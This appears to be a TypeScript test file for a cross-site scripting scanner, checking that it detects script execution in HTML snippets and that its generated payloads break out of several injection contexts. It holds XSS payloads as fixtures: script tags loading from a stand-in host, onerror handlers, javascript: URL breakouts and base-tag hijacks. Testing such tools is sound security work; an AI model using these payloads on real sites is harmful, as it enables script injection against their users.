import { expect, it } from 'vitest';
import { contextsOf } from './contexts.ts';
import { executes } from './execution.ts';
import { payloadsFor } from './payloads.ts';

const call = 'fh0123456789';
const host = `${call}.example`;

it.each([
  `<script src="//${host}/a.js"></script>`,
  `<script src="https://${host}"></script>`,
  `<base href="//${host}/"><script src="a.js"></script>`,
  `<iframe srcdoc="&lt;img src=x onerror=${call}()>"></iframe>`,
  `<a href="javascript:show('%27-${call}()-%27')">Show</a>`,
])('runs %s', (page) => {
  expect(executes(page, call)).not.toBeNull();
});

it.each([
  `<a href="//${host}/">Away</a>`,
  `<script src="/js/${host}/a.js"></script>`,
  `<script src="https://cdn.example/?from=${host}"></script>`,
  `<base href="//${host}/"><script src="https://cdn.example/a.js"></script>`,
  `<base href="/"><base href="//${host}/"><script src="a.js"></script>`,
  `<base href="//${host}/"><script>var a = 1;</script>`,
  `<iframe srcdoc="&amp;lt;img src=x onerror=${call}()>"></iframe>`,
  `<a href="javascript:show('${call}()')">Show</a>`,
  `<template><p><img src=x onerror=${call}()></p></template>`,
])('does not run %s', (page) => {
  expect(executes(page, call)).toBeNull();
});

it.each([
  (text: string) => `<a href="javascript:show('${text}')">Show</a>`,
  (text: string) => `<iframe srcdoc="${text.replaceAll('<', '&lt;')}"></iframe>`,
  (text: string) => `<script src="//${text}/a.js"></script>`,
  (text: string) => `<base href="${text}"><script src="a.js"></script>`,
  (text: string) => `<script>var words = /${text.replaceAll('<', '')}/;</script>`,
])('a payload for the place breaks out of it: %s', (show) => {
  const word = 'fhaaaaaaaaaa';
  const payloads = contextsOf(show(word), word).flatMap((context) => payloadsFor(context, call));
  expect(payloads.some((payload) => executes(show(payload), call) !== null)).toBe(true);
});

it('looks into pages that are written into each other, and not without end', () => {
  const kindsIn = (times: number) => {
    let html = '<p>word</p>';
    for (let time = 0; time < times; time++)
      html = `<iframe srcdoc="${html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;
    return contextsOf(html, 'word').map(({ kind }) => kind);
  };
  expect(kindsIn(2)).toContain('text');
  expect(kindsIn(3)).toEqual(['attribute']);
});
